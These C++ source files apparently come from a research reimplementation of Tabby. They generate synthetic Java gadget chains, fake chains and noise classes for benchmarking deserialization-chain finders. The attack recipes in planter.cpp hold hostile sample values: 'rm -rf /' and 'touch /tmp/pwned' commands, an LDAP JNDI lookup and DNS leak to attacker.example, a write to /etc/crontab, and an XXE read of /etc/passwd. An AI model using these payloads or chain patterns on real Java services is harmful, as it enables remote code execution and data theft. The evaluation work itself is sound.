  std::vector<std::string> witnesses;
  /// Listed in ysoserial/marshalsec — the paper's "Known in dataset".
  bool known_in_dataset = true;
  /// Gated behind reflection/dynamic proxy: no static tool can find it
  /// (§V-B), and the recipe is empty. Counts toward every tool's FNR.
  bool requires_reflection = false;
  runtime::ObjectGraphSpec recipe;
};

/// A planted non-chain: static structure that some tool reports but that can
/// never execute to an attack.
struct FakeStructure {
  std::string id;
  /// What defeats it: "guard" (runtime condition), "wipe" (interprocedural
  /// sanitisation), "const" (uncontrollable data).
  std::string defeat;
  std::string source_signature;
  std::string sink_signature;
  /// The attacker's best attempt; the VM must show no satisfied sink hit.
  runtime::ObjectGraphSpec attempt_recipe;
};

}  // namespace tabby::corpus
