#include "corpus/stress.hpp"

#include <functional>
#include <string>
#include <vector>

#include "jir/builder.hpp"

namespace tabby::corpus {

// The frontier arithmetic (docs/ROBUSTNESS.md "Memory governance"): an
// explicit-stack DFS holds, at its deepest point, every unexplored sibling
// of every ancestor on the current path — Σ fan-out along one path frames.
// The chain edge is always created first, so the stable DFS dives straight
// down the hops and finds the one real chain while the per-level fans pile
// up behind it; an exhaustive finish must then drain hops × (aliases +
// call_fans) dead-end frames, each pinning a copy of its path. Interfaces
// make the fan nearly free to *build* (one abstract declaration shared by
// every hop, ALIAS edges carry no properties) while costing the *search*
// a full frame per level — the asymmetry the fixture exists to exercise.
jar::Archive fanout_stress_archive(const FanoutStressSpec& spec) {
  jir::ProgramBuilder pb;
  pb.with_core_classes();

  const std::string pkg = "stress.fanout";

  // One complete chain: entry -> hops -> sink, with per-hop alias and call
  // fans that never share a class with any other chain (dual_sink plants a
  // second instance under different prefixes, so the two searches stay
  // independent and each prunes against its own frontier slice).
  auto plant = [&](const std::string& entry_cls, const std::string& hop_prefix,
                   const std::string& iface_prefix, const std::string& fan_prefix,
                   const std::function<void(jir::ClassBuilder&)>& fire_sink) {
    auto hop_name = [&](int j) { return pkg + "." + hop_prefix + std::to_string(j); };
    auto iface_name = [&](int i) { return pkg + "." + iface_prefix + std::to_string(i); };
    auto fan_name = [&](int i) { return pkg + "." + fan_prefix + std::to_string(i); };

    // Entry first: its CALL edge into the first hop's step is created before
    // any fan edge, keeping the chain the first-explored branch per level.
    {
      jir::ClassBuilder entry = pb.add_class(pkg + "." + entry_cls);
      entry.serializable();
      entry.field("h0", hop_name(0));
      entry.method("readObject")
          .param("java.io.ObjectInputStream")
          .returns("void")
          .field_load("h", "@this", "h0")
          .invoke_virtual("", "h", hop_name(0), "step", {})
          .ret();
    }

    for (int j = 0; j < spec.hops; ++j) {
      jir::ClassBuilder hop = pb.add_class(hop_name(j));
      for (int i = 0; i < spec.aliases; ++i) hop.implements(iface_name(i));
      if (j + 1 < spec.hops) {
        hop.field("next", hop_name(j + 1));
        hop.method("step")
            .returns("void")
            .field_load("n", "@this", "next")
            .invoke_virtual("", "n", hop_name(j + 1), "step", {})
            .ret();
      } else {
        fire_sink(hop);
      }
    }

    for (int i = 0; i < spec.aliases; ++i) {
      pb.add_interface(iface_name(i)).method("step").returns("void").set_abstract();
    }

    for (int i = 0; i < spec.call_fans; ++i) {
      jir::ClassBuilder fan = pb.add_class(fan_name(i));
      jir::MethodBuilder poke = fan.method("poke").returns("void");
      for (int j = 0; j < spec.hops; ++j) {
        std::string field = "h" + std::to_string(j);
        fan.field(field, hop_name(j));
        std::string local = "v" + std::to_string(j);
        poke.field_load(local, "@this", field).invoke_virtual("", local, hop_name(j), "step", {});
      }
      poke.ret();
    }
  };

  // The last hop fires the Table VII Exec sink; cmd rides @this, so the
  // Trigger_Condition {1} maps back to {0} along every chain edge.
  plant("Entry", "Hop", "Step", "Fan", [](jir::ClassBuilder& hop) {
    hop.field("cmd", "java.lang.String");
    hop.method("step")
        .returns("void")
        .field_load("c", "@this", "cmd")
        .invoke_static("rt", "java.lang.Runtime", "getRuntime", {})
        .invoke_virtual("", "rt", "java.lang.Runtime", "exec", {"c"})
        .ret();
  });

  if (spec.dual_sink) {
    // Mirror chain into the ClassLoader sink (same String-param shape as
    // exec, so the TC mapping is identical) under disjoint class names.
    plant("Entry2", "LHop", "LStep", "LFan", [](jir::ClassBuilder& hop) {
      hop.field("loader", "java.lang.ClassLoader");
      hop.field("cmd", "java.lang.String");
      hop.method("step")
          .returns("void")
          .field_load("l", "@this", "loader")
          .field_load("c", "@this", "cmd")
          .invoke_virtual("", "l", "java.lang.ClassLoader", "loadClass", {"c"})
          .ret();
    });
  }

  jar::Archive archive;
  archive.meta.name = "fanout-stress";
  archive.meta.version = "sim";
  archive.classes = pb.build().classes();
  return archive;
}

}  // namespace tabby::corpus
