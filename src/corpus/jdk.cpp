#include "corpus/jdk.hpp"

#include "jir/builder.hpp"

namespace tabby::corpus {

jar::Archive jdk_base_archive() {
  jir::ProgramBuilder pb;
  pb.with_core_classes();

  // --- Execution sinks -----------------------------------------------------
  auto runtime = pb.add_class("java.lang.Runtime");
  runtime.method("getRuntime").set_static().returns("java.lang.Runtime")
      .new_object("r", "java.lang.Runtime").ret("r");
  runtime.method("exec").param("java.lang.String").returns("java.lang.Process").set_native();

  auto process_builder = pb.add_class("java.lang.ProcessBuilder");
  process_builder.field("command", "java.lang.String[]");
  process_builder.method("start").returns("java.lang.Process").set_native();

  // --- Reflection ------------------------------------------------------------
  auto method_cls = pb.add_class("java.lang.reflect.Method");
  method_cls.serializable();
  method_cls.method("invoke")
      .param("java.lang.Object")
      .param("java.lang.Object[]")
      .returns("java.lang.Object")
      .set_native();

  auto class_loader = pb.add_class("java.lang.ClassLoader");
  class_loader.method("loadClass").param("java.lang.String").returns("java.lang.Class")
      .set_native();

  // --- JNDI ------------------------------------------------------------------
  auto context = pb.add_interface("javax.naming.Context");
  context.method("lookup").param("java.lang.String").returns("java.lang.Object").set_abstract();
  auto initial_context = pb.add_class("javax.naming.InitialContext");
  initial_context.implements("javax.naming.Context");
  initial_context.method("lookup").param("java.lang.String").returns("java.lang.Object")
      .set_native();

  // --- Files -----------------------------------------------------------------
  auto files = pb.add_class("java.nio.file.Files");
  files.method("newOutputStream").set_static().param("java.lang.Object")
      .returns("java.io.OutputStream").set_native();
  auto file = pb.add_class("java.io.File");
  file.serializable();
  file.method("delete").returns("boolean").set_native();

  // --- XML -------------------------------------------------------------------
  auto doc_builder = pb.add_class("javax.xml.parsers.DocumentBuilder");
  doc_builder.method("parse").param("java.lang.String").returns("org.w3c.dom.Document")
      .set_native();

  // --- SQL -------------------------------------------------------------------
  auto data_source = pb.add_interface("javax.sql.DataSource");
  data_source.method("getConnection").returns("java.sql.Connection").set_abstract();

  // --- Network ---------------------------------------------------------------
  auto inet = pb.add_class("java.net.InetAddress");
  inet.serializable();
  inet.method("getByName").set_static().param("java.lang.String")
      .returns("java.net.InetAddress").set_native();

  // --- Deserialization plumbing ------------------------------------------------
  auto ois = pb.add_class("java.io.ObjectInputStream");
  ois.method("readObject").returns("java.lang.Object").set_native();
  ois.method("defaultReadObject").returns("void").set_native();

  auto comparator = pb.add_interface("java.util.Comparator");
  comparator.method("compare")
      .param("java.lang.Object")
      .param("java.lang.Object")
      .returns("int")
      .set_abstract();

  // HashMap: the classic hashCode pivot (URLDNS-style chains hang off this).
  auto hashmap = pb.add_class("java.util.HashMap");
  hashmap.serializable();
  hashmap.field("key", "java.lang.Object");
  hashmap.method("readObject")
      .param("java.io.ObjectInputStream")
      .returns("void")
      .field_load("k", "@this", "key")
      .invoke_virtual("h", "@this", "java.util.HashMap", "hash", {"k"})
      .ret();
  hashmap.method("hash")
      .param("java.lang.Object")
      .returns("int")
      .invoke_virtual("h", "@p1", "java.lang.Object", "hashCode", {})
      .ret("h");

  jar::Archive archive;
  archive.meta.name = "jdk-base";
  archive.meta.version = "8u242-sim";
  archive.classes = pb.build().classes();
  return archive;
}

std::string sink_signature(SinkFlavor flavor) {
  switch (flavor) {
    case SinkFlavor::Exec: return "java.lang.Runtime#exec/1";
    case SinkFlavor::Invoke: return "java.lang.reflect.Method#invoke/2";
    case SinkFlavor::JndiLookup: return "javax.naming.Context#lookup/1";
    case SinkFlavor::FileWrite: return "java.nio.file.Files#newOutputStream/1";
    case SinkFlavor::XmlParse: return "javax.xml.parsers.DocumentBuilder#parse/1";
    case SinkFlavor::SqlConnection: return "javax.sql.DataSource#getConnection/0";
    case SinkFlavor::Dns: return "java.net.InetAddress#getByName/1";
  }
  return "";
}

}  // namespace tabby::corpus
