// Seeded generator of "boring library code": classes with hierarchies,
// fields, and call webs that never touch a sink. Used to give components
// realistic bulk and to drive the Table VIII scaling experiment.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "jar/archive.hpp"
#include "jir/builder.hpp"
#include "util/rng.hpp"

namespace tabby::corpus {

struct NoiseProfile {
  int methods_per_class = 6;
  int stmts_per_method = 8;
  /// Fraction (percent) of classes made serializable with a readObject.
  int serializable_percent = 20;
  /// Fraction (percent) of classes that implement a generated interface.
  int interface_percent = 25;
};

/// Adds `class_count` noise classes under `pkg` to the builder. Classes call
/// only other noise classes (never sinks), so they add graph bulk without
/// disturbing ground truth.
void add_noise_classes(jir::ProgramBuilder& pb, const std::string& pkg, int class_count,
                       std::uint64_t seed, const NoiseProfile& profile = {});

/// A standalone noise archive (jar) of roughly `class_count` classes.
jar::Archive make_noise_archive(const std::string& name, const std::string& pkg, int class_count,
                                std::uint64_t seed, const NoiseProfile& profile = {});

/// A classpath of noise jars totalling approximately `target_bytes` of
/// serialized TJAR data (the Table VIII "code amount"). Returns the jars;
/// `actual_bytes` receives the realised total.
std::vector<jar::Archive> make_scaled_corpus(std::size_t target_bytes, std::uint64_t seed,
                                             std::size_t* actual_bytes = nullptr);

}  // namespace tabby::corpus
