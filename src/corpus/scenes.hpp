// The Table X development-environment scenes: Spring, JDK8, Tomcat, Jetty
// and Apache Dubbo, each a multi-jar classpath with planted effective chains
// and guarded fakes. The Spring scene contains the Table XI JNDI chains
// (LazyInitTargetSource / PrototypeTargetSource / SimpleJndiBeanFactory ->
// JndiLocatorSupport.lookup -> javax.naming.Context.lookup).
#pragma once

#include <string>
#include <vector>

#include "corpus/groundtruth.hpp"
#include "jar/archive.hpp"
#include "jir/model.hpp"

namespace tabby::corpus {

struct Scene {
  std::string name;
  std::string version;          // Table X "Version" column
  std::vector<jar::Archive> jars;  // full classpath including the jdk base
  std::vector<GroundTruthChain> truths;  // effective chains
  std::vector<FakeStructure> fakes;      // guarded fakes (the scene FPs)

  std::size_t jar_count() const { return jars.size(); }
  std::size_t total_bytes() const;
  jir::Program link() const;
};

const std::vector<std::string>& scene_names();
Scene build_scene(const std::string& name);

}  // namespace tabby::corpus
