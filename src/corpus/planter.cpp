#include "corpus/planter.hpp"

namespace tabby::corpus {

namespace {

using jir::ClassBuilder;
using jir::MethodBuilder;
using runtime::ObjectGraphSpec;
using runtime::ObjectSpec;
using runtime::Ref;

/// Declares the payload fields of a sink flavour on a carrier class, emits
/// the sink call (reading those fields off @this), and fills attack recipes.
struct SinkKit {
  SinkFlavor flavor;

  void declare_fields(ClassBuilder& carrier) const {
    switch (flavor) {
      case SinkFlavor::Exec:
        carrier.field("cmd", "java.lang.String");
        break;
      case SinkFlavor::Invoke:
        carrier.field("refMethod", "java.lang.reflect.Method");
        carrier.field("target", "java.lang.Object");
        carrier.field("margs", "java.lang.Object[]");
        break;
      case SinkFlavor::JndiLookup:
        carrier.field("ctx", "javax.naming.Context");
        carrier.field("jndiName", "java.lang.String");
        break;
      case SinkFlavor::FileWrite:
        carrier.field("path", "java.lang.Object");
        break;
      case SinkFlavor::XmlParse:
        carrier.field("builder", "javax.xml.parsers.DocumentBuilder");
        carrier.field("xml", "java.lang.String");
        break;
      case SinkFlavor::SqlConnection:
        carrier.field("ds", "javax.sql.DataSource");
        break;
      case SinkFlavor::Dns:
        carrier.field("host", "java.lang.String");
        break;
    }
  }

  void emit(MethodBuilder& m) const {
    switch (flavor) {
      case SinkFlavor::Exec:
        m.field_load("kc", "@this", "cmd")
            .invoke_static("krt", "java.lang.Runtime", "getRuntime", {})
            .invoke_virtual("", "krt", "java.lang.Runtime", "exec", {"kc"});
        break;
      case SinkFlavor::Invoke:
        m.field_load("kmo", "@this", "refMethod")
            .field_load("ko", "@this", "target")
            .field_load("kar", "@this", "margs")
            .invoke_virtual("", "kmo", "java.lang.reflect.Method", "invoke", {"ko", "kar"});
        break;
      case SinkFlavor::JndiLookup:
        m.field_load("kcx", "@this", "ctx")
            .field_load("kn", "@this", "jndiName")
            .invoke_interface("", "kcx", "javax.naming.Context", "lookup", {"kn"});
        break;
      case SinkFlavor::FileWrite:
        m.field_load("kp", "@this", "path")
            .invoke_static("", "java.nio.file.Files", "newOutputStream", {"kp"});
        break;
      case SinkFlavor::XmlParse:
        m.field_load("kb", "@this", "builder")
            .field_load("kx", "@this", "xml")
            .invoke_virtual("", "kb", "javax.xml.parsers.DocumentBuilder", "parse", {"kx"});
        break;
      case SinkFlavor::SqlConnection:
        m.field_load("kd", "@this", "ds")
            .invoke_interface("", "kd", "javax.sql.DataSource", "getConnection", {});
        break;
      case SinkFlavor::Dns:
        m.field_load("kh", "@this", "host")
            .invoke_static("", "java.net.InetAddress", "getByName", {"kh"});
        break;
    }
  }

  /// Adds the payload values to the carrier's ObjectSpec (plus any auxiliary
  /// objects in the graph), namespaced by `prefix`.
  void fill_recipe(ObjectSpec& carrier, ObjectGraphSpec& graph, const std::string& prefix) const {
    switch (flavor) {
      case SinkFlavor::Exec:
        carrier.fields["cmd"] = std::string("touch /tmp/pwned");
        break;
      case SinkFlavor::Invoke: {
        std::string mref = prefix + "_method";
        std::string aref = prefix + "_args";
        graph.objects[mref] = ObjectSpec{"java.lang.reflect.Method", {}, {}};
        graph.objects[aref] = ObjectSpec{"java.lang.Object[]", {}, {std::string("arg0")}};
        carrier.fields["refMethod"] = Ref{mref};
        carrier.fields["target"] = std::string("victim");
        carrier.fields["margs"] = Ref{aref};
        break;
      }
      case SinkFlavor::JndiLookup: {
        std::string cref = prefix + "_ctx";
        graph.objects[cref] = ObjectSpec{"javax.naming.InitialContext", {}, {}};
        carrier.fields["ctx"] = Ref{cref};
        carrier.fields["jndiName"] = std::string("ldap://attacker.example/obj");
        break;
      }
      case SinkFlavor::FileWrite:
        carrier.fields["path"] = std::string("/etc/crontab");
        break;
      case SinkFlavor::XmlParse: {
        std::string bref = prefix + "_builder";
        graph.objects[bref] = ObjectSpec{"javax.xml.parsers.DocumentBuilder", {}, {}};
        carrier.fields["builder"] = Ref{bref};
        carrier.fields["xml"] = std::string("<!DOCTYPE x SYSTEM \"file:///etc/passwd\">");
        break;
      }
      case SinkFlavor::SqlConnection: {
        std::string dref = prefix + "_ds";
        graph.objects[dref] = ObjectSpec{"com.sim.jdbc.AttackerDataSource", {}, {}};
        carrier.fields["ds"] = Ref{dref};
        break;
      }
      case SinkFlavor::Dns:
        carrier.fields["host"] = std::string("leak.attacker.example");
        break;
    }
  }
};

}  // namespace

Planter::Planter(jir::ProgramBuilder& pb, std::string pkg, std::uint64_t seed)
    : pb_(&pb), pkg_(std::move(pkg)), rng_(seed) {}

std::string Planter::make_plain_helper(SinkFlavor sink) {
  SinkKit kit{sink};
  std::string name = fresh("Helper");
  ClassBuilder helper = pb_->add_class(name);
  helper.serializable();
  kit.declare_fields(helper);
  helper.method("process")
      .returns("void")
      .invoke_virtual("", "@this", name, "doWork", {})
      .ret();
  {
    MethodBuilder do_work = helper.method("doWork").returns("void");
    kit.emit(do_work);
    do_work.ret();
  }
  return name;
}

GroundTruthChain Planter::plant_real_chain(const RealChainOptions& options) {
  SinkKit kit{options.sink};
  GroundTruthChain truth;
  truth.known_in_dataset = options.known;
  truth.sink_signature = sink_signature(options.sink);

  if (!options.iface) {
    std::string helper =
        options.shared_helper.empty() ? make_plain_helper(options.sink) : options.shared_helper;
    std::string gadget = fresh(options.known ? "PlainGadget" : "ExtraGadget");
    ClassBuilder cls = pb_->add_class(gadget);
    cls.serializable();
    cls.field("helper", helper);
    cls.method("readObject")
        .param("java.io.ObjectInputStream")
        .returns("void")
        .field_load("h", "@this", "helper")
        .invoke_virtual("", "h", helper, "process", {})
        .ret();

    truth.id = gadget;
    truth.source_signature = gadget + "#readObject/1";
    truth.witnesses.push_back(helper + "#process/0");

    ObjectSpec root{gadget, {{"helper", Ref{"h"}}}, {}};
    ObjectSpec helper_obj{helper, {}, {}};
    kit.fill_recipe(helper_obj, truth.recipe, "h");
    truth.recipe.objects["root"] = std::move(root);
    truth.recipe.objects["h"] = std::move(helper_obj);
    truth.recipe.root = "root";
    return truth;
  }

  // Interface-dispatch chain: readObject -> I.perform (CALL) with the
  // implementation connected by an ALIAS edge.
  std::string iface = fresh("Action");
  std::string impl = fresh("ActionImpl");
  std::string gadget = fresh(options.known ? "IfaceGadget" : "ExtraIfaceGadget");

  ClassBuilder iface_cls = pb_->add_interface(iface);
  iface_cls.method("perform").returns("void").set_abstract();

  ClassBuilder impl_cls = pb_->add_class(impl);
  impl_cls.implements(iface).serializable();
  kit.declare_fields(impl_cls);
  {
    MethodBuilder perform = impl_cls.method("perform").returns("void");
    kit.emit(perform);
    perform.ret();
  }

  ClassBuilder cls = pb_->add_class(gadget);
  cls.serializable();
  cls.field("action", iface);
  cls.method("readObject")
      .param("java.io.ObjectInputStream")
      .returns("void")
      .field_load("a", "@this", "action")
      .invoke_interface("", "a", iface, "perform", {})
      .ret();

  truth.id = gadget;
  truth.source_signature = gadget + "#readObject/1";
  truth.witnesses.push_back(iface + "#perform/0");

  ObjectSpec root{gadget, {{"action", Ref{"impl"}}}, {}};
  ObjectSpec impl_obj{impl, {}, {}};
  kit.fill_recipe(impl_obj, truth.recipe, "impl");
  truth.recipe.objects["root"] = std::move(root);
  truth.recipe.objects["impl"] = std::move(impl_obj);
  truth.recipe.root = "root";
  return truth;
}

GroundTruthChain Planter::plant_reflection_chain(SinkFlavor sink) {
  SinkKit kit{sink};
  std::string gadget = fresh("ReflGadget");
  std::string payload = fresh("ReflPayload");

  // The gadget hands its target to an opaque reflective factory; the actual
  // dangerous method is never statically invoked.
  ClassBuilder cls = pb_->add_class(gadget);
  cls.serializable();
  cls.field("targetName", "java.lang.String");
  cls.method("readObject")
      .param("java.io.ObjectInputStream")
      .returns("void")
      .field_load("t", "@this", "targetName")
      .invoke_static("obj", "sun.reflect.ReflectionFactory", "newInstanceByName", {"t"})
      .ret();

  ClassBuilder payload_cls = pb_->add_class(payload);
  payload_cls.serializable();
  kit.declare_fields(payload_cls);
  {
    MethodBuilder dangerous = payload_cls.method("dangerous").returns("void");
    kit.emit(dangerous);
    dangerous.ret();
  }

  GroundTruthChain truth;
  truth.id = gadget;
  truth.source_signature = gadget + "#readObject/1";
  truth.sink_signature = sink_signature(sink);
  truth.known_in_dataset = true;
  truth.requires_reflection = true;  // no recipe: statically and VM-invisible
  return truth;
}

FakeStructure Planter::plant_guarded_fake(SinkFlavor sink) {
  SinkKit kit{sink};
  std::string iface = fresh("Hook");
  std::string impl = fresh("HookImpl");
  std::string gadget = fresh("GuardedGadget");

  ClassBuilder iface_cls = pb_->add_interface(iface);
  iface_cls.method("fire").returns("void").set_abstract();

  ClassBuilder impl_cls = pb_->add_class(impl);
  impl_cls.implements(iface).serializable();
  kit.declare_fields(impl_cls);
  impl_cls.field("armed", "int");
  {
    // fire() hard-resets `armed` before checking it: statically the sink is
    // reachable with controllable data (path-insensitive analysis), but at
    // runtime the guard can never pass — a Tabby false positive.
    MethodBuilder fire = impl_cls.method("fire").returns("void");
    fire.const_int("zero", 0)
        .field_store("@this", "armed", "zero")
        .field_load("m", "@this", "armed")
        .const_int("magic", 42)
        .if_cmp("m", jir::CmpOp::Ne, "magic", "bail");
    kit.emit(fire);
    fire.mark("bail").ret();
  }

  ClassBuilder cls = pb_->add_class(gadget);
  cls.serializable();
  cls.field("hook", iface);
  cls.method("readObject")
      .param("java.io.ObjectInputStream")
      .returns("void")
      .field_load("h", "@this", "hook")
      .invoke_interface("", "h", iface, "fire", {})
      .ret();

  FakeStructure fake;
  fake.id = gadget;
  fake.defeat = "guard";
  fake.source_signature = gadget + "#readObject/1";
  fake.sink_signature = sink_signature(sink);
  ObjectSpec root{gadget, {{"hook", Ref{"impl"}}}, {}};
  ObjectSpec impl_obj{impl, {{"armed", std::int64_t{42}}}, {}};
  kit.fill_recipe(impl_obj, fake.attempt_recipe, "impl");
  fake.attempt_recipe.objects["root"] = std::move(root);
  fake.attempt_recipe.objects["impl"] = std::move(impl_obj);
  fake.attempt_recipe.root = "root";
  return fake;
}

FakeStructure Planter::plant_wipe_fake() {
  std::string sanitizer = fresh("Sanitizer");
  std::string gadget = fresh("WipeGadget");

  ClassBuilder san = pb_->add_class(sanitizer);
  san.method("sanitize")
      .set_static()
      .param("java.lang.String")
      .returns("java.lang.String")
      .const_str("safe", "sanitized")
      .ret("safe");

  // Plain (concrete-dispatch) shape, so the GadgetInspector baseline sees
  // it; Tabby's interprocedural Action knows sanitize() discards its input.
  ClassBuilder cls = pb_->add_class(gadget);
  cls.serializable();
  cls.field("data", "java.lang.String");
  cls.method("readObject")
      .param("java.io.ObjectInputStream")
      .returns("void")
      .field_load("d", "@this", "data")
      .invoke_static("clean", sanitizer, "sanitize", {"d"})
      .invoke_static("rt", "java.lang.Runtime", "getRuntime", {})
      .invoke_virtual("", "rt", "java.lang.Runtime", "exec", {"clean"})
      .ret();

  FakeStructure fake;
  fake.id = gadget;
  fake.defeat = "wipe";
  fake.source_signature = gadget + "#readObject/1";
  fake.sink_signature = sink_signature(SinkFlavor::Exec);
  fake.attempt_recipe.objects["root"] =
      ObjectSpec{gadget, {{"data", std::string("rm -rf /")}}, {}};
  fake.attempt_recipe.root = "root";
  return fake;
}

std::vector<FakeStructure> Planter::plant_const_web(int source_count) {
  if (web_hub_.empty()) {
    web_hub_ = fresh("WebHub");
    ClassBuilder hub = pb_->add_class(web_hub_);
    hub.method("route")
        .set_static()
        .param("java.lang.String")
        .returns("void")
        .invoke_static("rt", "java.lang.Runtime", "getRuntime", {})
        .invoke_virtual("", "rt", "java.lang.Runtime", "exec", {"@p1"})
        .ret();
  }
  std::vector<FakeStructure> fakes;
  fakes.reserve(static_cast<std::size_t>(source_count));
  for (int i = 0; i < source_count; ++i) {
    std::string source = fresh("WebSource");
    ClassBuilder cls = pb_->add_class(source);
    cls.serializable();
    cls.method("readObject")
        .param("java.io.ObjectInputStream")
        .returns("void")
        .const_str("k", "config-entry-" + std::to_string(i))
        .invoke_static("", web_hub_, "route", {"k"})
        .ret();

    FakeStructure fake;
    fake.id = source;
    fake.defeat = "const";
    fake.source_signature = source + "#readObject/1";
    fake.sink_signature = sink_signature(SinkFlavor::Exec);
    fake.attempt_recipe.objects["root"] = ObjectSpec{source, {}, {}};
    fake.attempt_recipe.root = "root";
    fakes.push_back(std::move(fake));
  }
  return fakes;
}

void Planter::plant_explosive_web(int hub_count, int fan_out) {
  // Pre-compute names so forward references resolve.
  std::vector<std::string> names;
  names.reserve(static_cast<std::size_t>(hub_count));
  for (int k = 0; k < hub_count; ++k) {
    names.push_back(pkg_ + ".Maze" + std::to_string(k));
  }
  for (int k = 0; k < hub_count; ++k) {
    ClassBuilder cls = pb_->add_class(names[static_cast<std::size_t>(k)]);
    MethodBuilder step = cls.method("step").set_static().param("java.lang.String").returns("void");
    step.const_str("x", "maze");
    for (int d = 0; d < fan_out; ++d) {
      int next = (k + 1 + d * 7) % hub_count;
      if (next == k) next = (next + 1) % hub_count;
      step.invoke_static("", names[static_cast<std::size_t>(next)], "step", {"x"});
    }
    if (k == 0) {
      step.invoke_static("rt", "java.lang.Runtime", "getRuntime", {})
          .invoke_virtual("", "rt", "java.lang.Runtime", "exec", {"@p1"});
    }
    step.ret();
  }
  // A handful of deserialization entry points into the maze.
  for (int e = 0; e < 6; ++e) {
    std::string entry = fresh("MazeEntry");
    ClassBuilder cls = pb_->add_class(entry);
    cls.serializable();
    cls.method("readObject")
        .param("java.io.ObjectInputStream")
        .returns("void")
        .const_str("k", "enter")
        .invoke_static("", names[rng_.next_below(static_cast<std::uint64_t>(hub_count))], "step",
                       {"k"})
        .ret();
  }
}

}  // namespace tabby::corpus
