// Faithful (structurally, not bytecode-level) models of real ysoserial
// gadget chains, with the authentic class and method names: the payloads the
// paper's RQ2 dataset is built from. Each model ships the attack recipe, so
// the chains are both findable by the static pipeline and executable in the
// runtime VM.
//
// Simplifications are noted per model in ysoserial.cpp; the main global one:
// InvokerTransformer's reflective call is modelled as a direct
// java.lang.reflect.Method#invoke sink (reflection itself is out of scope,
// exactly as in the paper §V-B), and ChainedTransformer's loop is unrolled
// to its two-element form (JIR has no arithmetic).
#pragma once

#include <string>
#include <vector>

#include "corpus/groundtruth.hpp"
#include "jar/archive.hpp"

namespace tabby::corpus {

struct YsoserialModel {
  std::string name;
  jar::Archive jar;           // link against jdk_base_archive()
  GroundTruthChain truth;     // the chain + executable recipe
  /// The method-call stack the finder is expected to report, source-first
  /// (includes ALIAS hops through declared supertypes).
  std::vector<std::string> expected_chain;
};

/// {"URLDNS", "CommonsCollections5", "CommonsCollections6",
///  "CommonsBeanutils1", "C3P0", "ROME"}
const std::vector<std::string>& ysoserial_names();

YsoserialModel build_ysoserial(const std::string& name);

}  // namespace tabby::corpus
