#include "corpus/noise.hpp"

namespace tabby::corpus {

namespace {

struct NoiseMethodRef {
  std::string owner;
  std::string name;  // static, 1 String parameter, returns Object
};

}  // namespace

void add_noise_classes(jir::ProgramBuilder& pb, const std::string& pkg, int class_count,
                       std::uint64_t seed, const NoiseProfile& profile) {
  util::Rng rng(seed);
  std::vector<std::string> class_names;
  class_names.reserve(static_cast<std::size_t>(class_count));
  for (int i = 0; i < class_count; ++i) {
    class_names.push_back(pkg + ".N" + rng.identifier(6) + std::to_string(i));
  }

  // A few interfaces for hierarchy variety.
  int iface_count = std::max(1, class_count / 20);
  std::vector<std::string> iface_names;
  for (int i = 0; i < iface_count; ++i) {
    std::string name = pkg + ".I" + rng.identifier(5) + std::to_string(i);
    auto iface = pb.add_interface(name);
    iface.method("visit").param("java.lang.Object").returns("java.lang.Object").set_abstract();
    iface_names.push_back(std::move(name));
  }

  // Callable method pool. Noise methods are static with one String param so
  // call arguments stay controllable: the edges survive pruning, matching
  // real code where most calls pass live data.
  std::vector<NoiseMethodRef> pool;

  for (int i = 0; i < class_count; ++i) {
    const std::string& name = class_names[static_cast<std::size_t>(i)];
    auto cls = pb.add_class(name);
    // Shallow inheritance chains among noise classes.
    if (i > 0 && rng.chance(30, 100)) {
      cls.extends(class_names[rng.next_below(static_cast<std::uint64_t>(i))]);
    }
    if (rng.chance(static_cast<std::uint64_t>(profile.interface_percent), 100)) {
      cls.implements(rng.pick(iface_names));
    }
    bool serializable = rng.chance(static_cast<std::uint64_t>(profile.serializable_percent), 100);
    if (serializable) cls.serializable();

    cls.field("state", "java.lang.String");
    cls.field("cache", "java.lang.Object", /*is_static=*/true);

    std::vector<std::string> own_methods;
    for (int m = 0; m < profile.methods_per_class; ++m) {
      std::string method_name = "m" + rng.identifier(4) + std::to_string(m);
      auto method = cls.method(method_name)
                        .set_static()
                        .param("java.lang.String")
                        .returns("java.lang.Object");
      std::string last = "@p1";
      for (int s = 0; s < profile.stmts_per_method; ++s) {
        std::string v = "v" + std::to_string(s);
        switch (rng.next_below(6)) {
          case 0:
            method.static_load(v, name, "cache");
            last = v;
            break;
          case 1:
            method.static_store(name, "cache", last);
            break;
          case 2:
            method.assign(v, last);
            last = v;
            break;
          case 3:
            method.const_str(v, rng.identifier(8));
            break;
          case 4:
            if (!pool.empty()) {
              const NoiseMethodRef& callee = pool[rng.next_below(pool.size())];
              method.invoke_static(v, callee.owner, callee.name, {"@p1"});
              last = v;
            } else {
              method.nop();
            }
            break;
          default:
            method.cast(v, "java.lang.Object", last);
            last = v;
            break;
        }
      }
      method.ret(last);
      own_methods.push_back(method_name);
    }
    // A bounded subset joins the global pool (bounded fan-in).
    for (std::string& m : own_methods) {
      if (rng.chance(40, 100)) pool.push_back(NoiseMethodRef{name, m});
    }

    if (serializable) {
      auto ro = cls.method("readObject").param("java.io.ObjectInputStream").returns("void");
      if (!own_methods.empty()) {
        ro.field_load("s", "@this", "state");
        ro.invoke_static("r", name, own_methods[0], {"s"});
      }
      ro.ret();
    }
  }
}

jar::Archive make_noise_archive(const std::string& name, const std::string& pkg, int class_count,
                                std::uint64_t seed, const NoiseProfile& profile) {
  jir::ProgramBuilder pb;
  add_noise_classes(pb, pkg, class_count, seed, profile);
  jar::Archive archive;
  archive.meta.name = name;
  archive.meta.version = "1.0";
  archive.classes = pb.build().classes();
  return archive;
}

std::vector<jar::Archive> make_scaled_corpus(std::size_t target_bytes, std::uint64_t seed,
                                             std::size_t* actual_bytes) {
  util::Rng rng(seed);
  std::vector<jar::Archive> jars;
  std::size_t total = 0;
  int index = 0;
  while (total < target_bytes) {
    // Jar sizes vary like real dependency trees: 30-400 classes.
    int classes = static_cast<int>(rng.next_in(30, 400));
    std::string name = "noise-" + std::to_string(index) + ".jar";
    std::string pkg = "lib" + std::to_string(index) + "." + rng.identifier(5);
    jar::Archive archive = make_noise_archive(name, pkg, classes, rng.next_u64());
    total += jar::write_archive(archive).size();
    jars.push_back(std::move(archive));
    ++index;
  }
  if (actual_bytes != nullptr) *actual_bytes = total;
  return jars;
}

}  // namespace tabby::corpus
