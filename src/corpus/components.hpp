// The 26 Table IX component models (the ysoserial/marshalsec third-party
// dependency set). Every component is generated deterministically: planted
// ground-truth chains (known-in-dataset, unknown, reflection-gated) and
// planted fake structures (guarded / wipe / const-web), plus noise bulk.
// The per-structure counts are chosen so a faithful Tabby implementation
// reproduces the paper's TB columns exactly, and the baselines land close
// to the GI/SL columns (see DESIGN.md §5).
